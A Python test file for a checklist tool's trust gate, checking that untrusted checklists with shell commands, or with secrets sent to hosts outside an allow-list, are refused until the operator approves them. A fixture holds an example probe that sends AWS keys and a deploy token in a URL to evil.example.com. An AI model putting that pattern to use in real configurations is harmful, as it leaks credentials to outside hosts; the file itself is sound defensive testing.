"""Checklists from strangers: nothing a checklist executes, and no secret it sends outside
the allow-list, runs before the operator trusts it (headless: --trust or a trusted-digests
file; the review: its first screen)."""

from __future__ import annotations

import hashlib
import os
import subprocess
import sys
from pathlib import Path

import pytest
from textual.widgets import Static

from gonogo_tui.commands.demo import SHIPPED_CHECKLIST
from gonogo_tui.commands.shipped import shipped_file
from gonogo_tui.core.checklist import load_checklist
from gonogo_tui.core.engine import ProbeRunner
from gonogo_tui.core.probes.command import shell_source
from gonogo_tui.core.trust import (
    SHIPPED_DIGESTS,
    TRUSTED_FILE,
    AllowList,
    plan_checklist,
    trusted_digests,
)
from gonogo_tui.ui.app import GonogoApp
from gonogo_tui.ui.screens.review import ReviewScreen
from gonogo_tui.ui.screens.trust import TrustModal
from tests.ui.test_tmux import Tmux

GONOGO = Path(sys.executable).parent / "gonogo"
STRANGER = """\
title: From a pull request
sections:
  - id: ship
    title: Ship
    criteria:
      - id: smoke
        title: Smoke test
        probe:
          kind: command
          shell: true
          command: "touch ran.txt"
"""
EXFILTRATING = """\
title: Sends secrets away
variables:
  DEPLOY_TOKEN: {secret: true, default: from-the-checklist}
sections:
  - id: api
    title: API
    criteria:
      - id: health
        title: Health
        probe:
          kind: http
          url: "https://evil.example.com/h?v=${AWS_ACCESS_KEY_ID}&t=${DEPLOY_TOKEN}"
          headers: {X-Who: "${WHO:-nobody}"}
      - id: local
        title: Local
        probe: {kind: http, url: "http://127.0.0.1:9/?t=${DEPLOY_TOKEN}"}
      - id: db
        title: Database
        probe: {kind: sql, dsn: "host=db.example.com user=app password=${DB_PASSWORD}", query: "SELECT 1"}
"""
ENV = {"AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "DB_PASSWORD": "pw-secret"}


def gonogo(
    folder: Path, *args: str, env: dict[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if not k.startswith("GONOGO_")}
    return subprocess.run(
        [str(GONOGO), *args],
        cwd=folder,
        env={**environ, **(env or {})},
        capture_output=True,
        text=True,
        timeout=60,
    )


@pytest.fixture
def stranger(tmp_path: Path) -> Path:
    path = tmp_path / "pr.yaml"
    path.write_text(STRANGER, encoding="utf-8")
    return path


def test_headless_refuses_an_untrusted_shell_command_in_one_line(stranger: Path) -> None:
    done = gonogo(stranger.parent, "check", "pr.yaml")
    assert done.returncode == 2
    assert done.stdout == ""
    (line,) = done.stderr.splitlines()
    digest = hashlib.sha256(stranger.read_bytes()).hexdigest()
    assert line.startswith(f"gonogo: pr.yaml (sha256 {digest[:12]}) is not trusted: ")
    assert "runs the shell command sh -c 'touch ran.txt' (smoke)" in line
    assert "--trust" in line and "--trusted-digests" in line
    assert not (stranger.parent / "ran.txt").exists()
    assert not (stranger.parent / "evidence").exists()


def test_headless_refuses_secrets_sent_outside_the_allow_list(tmp_path: Path) -> None:
    (tmp_path / "pr.yaml").write_text(EXFILTRATING, encoding="utf-8")
    done = gonogo(tmp_path, "check", "pr.yaml", env=ENV)
    assert done.returncode == 2
    (line,) = done.stderr.splitlines()
    assert (
        "sends AWS_ACCESS_KEY_ID (from the environment) in url to evil.example.com (health)" in line
    )
    assert "sends DEPLOY_TOKEN (declared secret) in url to evil.example.com (health)" in line
    assert "sends DB_PASSWORD (sensitive name) in dsn to db.example.com (db)" in line
    # Loopback is always allowed; a checklist default is the stranger's own value.
    assert "(local)" not in line and "WHO" not in line
    assert "AKIAEXAMPLE" not in line and "pw-secret" not in line


def test_trust_runs_it_and_records_the_digest(stranger: Path) -> None:
    done = gonogo(stranger.parent, "check", "pr.yaml", "--trust")
    assert done.returncode == 0, done.stderr
    assert (stranger.parent / "ran.txt").exists()
    digest = hashlib.sha256(stranger.read_bytes()).hexdigest()
    recorded = (stranger.parent / "evidence" / TRUSTED_FILE).read_text()
    assert recorded == f"{digest}  pr.yaml\n"
    # Seen before (same bytes, same evidence folder): no --trust needed.
    (stranger.parent / "ran.txt").unlink()
    again = gonogo(stranger.parent, "check", "pr.yaml")
    assert again.returncode == 0, again.stderr
    assert (stranger.parent / "ran.txt").exists()
    # One byte changed: a new checklist, asked about again.
    stranger.write_text(STRANGER + "\n", encoding="utf-8")
    assert gonogo(stranger.parent, "check", "pr.yaml").returncode == 2


def test_a_trusted_digests_file_runs_it(stranger: Path, tmp_path: Path) -> None:
    digest = hashlib.sha256(stranger.read_bytes()).hexdigest()
    listed = tmp_path / "trusted.txt"
    listed.write_text(f"# reviewed in PR 12\n{digest}  pr.yaml\n", encoding="utf-8")
    done = gonogo(stranger.parent, "check", "pr.yaml", "--trusted-digests", str(listed))
    assert done.returncode == 0, done.stderr
    assert (stranger.parent / "ran.txt").exists()
    assert not (stranger.parent / "evidence" / TRUSTED_FILE).exists()

    listed.write_text("not-a-digest\n", encoding="utf-8")
    bad = gonogo(stranger.parent, "check", "pr.yaml", "--trusted-digests", str(listed))
    assert bad.returncode == 2
    assert (
        bad.stderr
        == f"gonogo: {listed}:1: not a SHA-256 digest (64 hex digits, then an optional comment): not-a-digest\n"
    )


def test_the_allow_list_comes_from_the_operator(tmp_path: Path) -> None:
    path = tmp_path / "pr.yaml"
    path.write_text(EXFILTRATING, encoding="utf-8")
    checklist = load_checklist(path, environ=ENV)
    nobody = plan_checklist(checklist, environ=ENV, allow=AllowList())
    assert nobody.needs_trust
    flags = AllowList.from_sources(["evil.example.com"], {"GONOGO_ALLOW_HOSTS": "*.example.com"})
    assert flags.allows("db.example.com") and not flags.allows("example.com.evil.org")
    assert not plan_checklist(checklist, environ=ENV, allow=flags).needs_trust
    only_api = AllowList.from_sources(["evil.example.com"], {})
    risks = plan_checklist(checklist, environ=ENV, allow=only_api).risks()
    assert risks == ["sends DB_PASSWORD (sensitive name) in dsn to db.example.com (db)"]


def test_shipped_checklists_are_trusted_by_digest() -> None:
    shipped = shipped_file(SHIPPED_CHECKLIST)
    digest = hashlib.sha256(shipped.read_bytes()).hexdigest()
    assert digest in SHIPPED_DIGESTS, (
        f"{shipped} changed: put its new digest {digest} in core/trust.py SHIPPED_DIGESTS"
    )
    assert digest in trusted_digests(Path("/nonexistent"))


async def test_the_review_asks_first_and_runs_nothing_before_accept(
    stranger: Path, tmp_path: Path
) -> None:
    evidence = tmp_path / "evidence"
    checklist = load_checklist(stranger, environ={})
    plan = plan_checklist(checklist, environ={}, allow=AllowList())
    runner = ProbeRunner.for_checklist(checklist, root=stranger.parent, evidence_dir=evidence)
    app = GonogoApp(checklist, runner, evidence_dir=evidence, operator="kim", trust=plan)
    marker = stranger.parent / "ran.txt"
    async with app.run_test(size=(80, 24)) as pilot:
        for _ in range(20):
            await pilot.pause()
        assert isinstance(app.screen, TrustModal)
        shown = " ".join(str(text.render()) for text in app.screen.query(Static))
        assert "SHELL sh -c 'touch ran.txt'  (smoke)" in shown
        assert "runs the shell command sh -c 'touch ran.txt' (smoke)" in shown
        assert app.review is None and not marker.exists()
        assert not evidence.exists() or not list(evidence.glob("journal_*"))
        await pilot.press("enter")  # the focused button is Quit, not Accept
    assert app.return_code == 2
    assert app.error == f"{stranger}: not trusted, nothing was run"
    assert not marker.exists()
    assert not (evidence / TRUSTED_FILE).exists()


async def test_accepting_in_the_review_starts_the_probes_and_records(
    stranger: Path, tmp_path: Path
) -> None:
    evidence = tmp_path / "evidence"
    checklist = load_checklist(stranger, environ={})
    plan = plan_checklist(checklist, environ={}, allow=AllowList())
    runner = ProbeRunner.for_checklist(checklist, root=stranger.parent, evidence_dir=evidence)
    app = GonogoApp(checklist, runner, evidence_dir=evidence, operator="kim", trust=plan)
    marker = stranger.parent / "ran.txt"
    async with app.run_test(size=(120, 40)) as pilot:
        await pilot.pause()
        assert isinstance(app.screen, TrustModal) and not marker.exists()
        await pilot.press("a")
        for _ in range(400):
            if marker.exists():
                break
            await pilot.pause(0.02)
        assert marker.exists()
        assert isinstance(app.screen, ReviewScreen)
    assert (evidence / TRUSTED_FILE).read_text().startswith(plan.digest)


def test_the_review_command_opens_on_the_trust_screen(stranger: Path) -> None:
    operator = Tmux(stranger.parent)
    operator.start(f"{GONOGO} review pr.yaml")
    try:
        operator.wait_for("This checklist has not run here", "SHELL sh -c 'touch ran.txt'")
        assert not (stranger.parent / "ran.txt").exists()
        operator.keys("a")
        operator.wait_for("From a pull request", "Smoke test")
        operator.wait_for("PASS")
        assert (stranger.parent / "ran.txt").exists()
    finally:
        operator.kill()


def test_a_shell_command_reads_as_one_in_every_view(stranger: Path) -> None:
    """The table, JSON, detail pane and record all show `CommandProbe.source`."""
    done = gonogo(stranger.parent, "check", "pr.yaml", "--trust", "--json")
    assert done.returncode == 0, done.stderr
    assert '"source": "sh -c \'touch ran.txt\'"' in done.stdout
    checklist = load_checklist(stranger, environ={})
    ((_, criterion),) = checklist.criteria()
    assert criterion.probe is not None
    assert criterion.probe.source() == "sh -c 'touch ran.txt'"


@pytest.mark.parametrize(
    "command",
    ["touch ran.txt", "grep -q 'A B' f || { echo \"x $HOME `id`\\n\" >&2; exit 1; }", "a'b\"c"],
)
def test_the_shown_shell_command_is_exactly_what_sh_runs(command: str) -> None:
    source = shell_source(command)
    assert source.startswith("sh -c ")
    # sh reads the quoted word back into the very command the probe runs.
    words = subprocess.run(
        ["sh", "-c", f"printf %s {source.removeprefix('sh -c ')}"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert words.stdout == command
